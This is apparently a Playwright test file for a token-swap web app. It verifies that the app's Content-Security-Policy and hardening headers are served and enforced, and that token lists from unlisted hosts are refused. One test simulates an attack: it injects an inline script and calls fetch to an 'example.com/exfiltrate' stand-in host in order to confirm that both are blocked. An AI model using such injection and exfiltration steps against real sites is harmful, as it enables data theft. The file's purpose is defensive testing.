// The built app is served with the security headers its build wrote (dist/_headers), and the policy
// really binds the page: what it does not allow is blocked and reported (the fixture fails any other
// journey on such a report).
import { expect, test } from '../src/fixtures';

test('the app is served with its Content-Security-Policy and hardening headers', async ({
  page,
}) => {
  const response = await page.goto('/swap');
  const headers = response?.headers() ?? {};
  const policy = headers['content-security-policy'] ?? '';
  expect(policy).toContain("script-src 'self'");
  expect(policy).toContain("frame-ancestors 'none'");
  // A devnet build reaches its read node over http and, for newHeads, over ws on the same port.
  const connect = policy.match(/connect-src ([^;]*)/)?.[1]?.split(' ') ?? [];
  const httpLoopback = connect.filter((source) => source.startsWith('http://127.0.0.1:'));
  expect(httpLoopback.length).toBeGreaterThan(0);
  const withWebSocket = httpLoopback.filter((source) =>
    connect.includes(source.replace('http:', 'ws:')),
  );
  expect(withWebSocket).not.toEqual([]);
  expect(connect).not.toContain('http://127.0.0.1:*');
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
  // The app runs under it: the page renders and (the fixture checks) breaks none of its rules.
  await expect(page.getByRole('heading', { name: 'Swap', level: 1 })).toBeVisible();
});

test('the policy blocks injected scripts and calls to hosts it does not name, and says so', async ({
  page,
  cspViolations,
}) => {
  await page.goto('/swap');
  const outcome = await page.evaluate(async () => {
    // What an injection would try: an inline script, and sending data to a host of its choice.
    const script = document.createElement('script');
    script.textContent = 'window.injectedScriptRan = true;';
    document.head.append(script);
    const ran = (window as unknown as { injectedScriptRan?: boolean }).injectedScriptRan === true;
    const fetched = await fetch('https://example.com/exfiltrate').then(
      () => 'sent',
      () => 'blocked',
    );
    return { ran, fetched };
  });
  expect(outcome).toEqual({ ran: false, fetched: 'blocked' });
  await expect
    .poll(() => cspViolations.map((violation) => violation.directive).sort())
    .toEqual(['connect-src', 'script-src-elem']);
  // Provoked on purpose: the fixture must not fail this test for them.
  cspViolations.length = 0;
});

test('a list on a host the policy does not name is refused with a reason, before any request', async ({
  page,
}) => {
  await page.goto('/swap');
  await page.getByRole('button', { name: 'Select a token' }).first().click();
  await page.getByRole('button', { name: 'Manage Token Lists' }).click();
  const manage = page.getByRole('dialog', { name: 'Manage' });
  await manage.getByLabel('Add list').fill('https://lists.example.com/tokens.json');
  await manage.getByRole('button', { name: 'Import' }).click();
  await expect(manage.getByRole('alert')).toHaveText(
    "This site's security policy does not allow lists from lists.example.com.",
  );
  // No request was tried, so the fixture saw no violation.
});
